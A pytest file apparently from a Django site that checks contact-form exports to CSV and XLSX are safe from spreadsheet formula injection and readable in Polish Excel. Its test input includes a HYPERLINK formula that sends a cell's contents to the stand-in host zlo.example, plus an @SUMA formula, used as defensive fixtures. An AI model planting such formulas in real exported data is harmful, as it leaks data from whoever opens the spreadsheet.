"""What a visitor types into the contact form leaves the CSV and XLSX export of the
messages (Forms → the page) as text: a spreadsheet never runs it as a formula; and the CSV
is the one Polish Excel opens: semicolons, a byte order mark, the site's local time."""

import csv
import datetime
import io

import openpyxl
import pytest

pytestmark = pytest.mark.django_db

NAME = '=HYPERLINK("https://zlo.example/?d="&C2;"Kliknij")'
MESSAGE = "@SUMA(1;1) -- proszę o kontakt"


@pytest.fixture
def sent(client, contact_page):
    response = client.post(
        contact_page.url,
        {"imie": NAME, "email": "anna@example.org", "wiadomosc": MESSAGE, "zgoda": "on"},
    )
    assert response.status_code == 302


def download(admin_client, contact_page, export_format):
    response = admin_client.get(
        f"/admin/forms/submissions/{contact_page.pk}/?export={export_format}"
    )
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_rows(content):
    """The rows of an exported CSV file, read as Polish Excel reads it (or fails the test)."""
    assert content.startswith(b"\xef\xbb\xbf")  # the UTF-8 byte order mark
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def test_csv_export_of_contact_messages_carries_no_formula(admin_client, contact_page, sent):
    (row,) = csv_rows(download(admin_client, contact_page, "csv"))

    assert row["Imię i nazwisko"] == "'" + NAME
    assert row["Wiadomość"] == "'" + MESSAGE
    assert row["Adres e-mail"] == "anna@example.org"  # ordinary text is left as it is


def test_xlsx_export_of_contact_messages_carries_no_formula(admin_client, contact_page, sent):
    content = download(admin_client, contact_page, "xlsx")

    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    headings, row = (list(cells) for cells in sheet.iter_rows(values_only=True))
    cells = dict(zip(headings, row, strict=True))
    assert cells["Imię i nazwisko"] == "'" + NAME
    assert cells["Wiadomość"] == "'" + MESSAGE
    assert cells["Adres e-mail"] == "anna@example.org"


def test_csv_export_of_contact_messages_reads_in_polish_excel(admin_client, contact_page, sent):
    # 13:40 UTC on a November day is 14:40 in Warsaw (UTC+1), as the admin shows it.
    sent_at = datetime.datetime(2026, 11, 20, 13, 40, tzinfo=datetime.UTC)
    contact_page.get_submission_class().objects.update(submit_time=sent_at)

    content = download(admin_client, contact_page, "csv")
    (row,) = csv_rows(content)

    assert content.splitlines()[0].count(b";") == len(row) - 1  # semicolons between headings
    assert row["Data zgłoszenia"] == "2026-11-20 14:40"
    assert row["Zgadzam się na przetwarzanie danych"] == "tak"  # the consent tick box
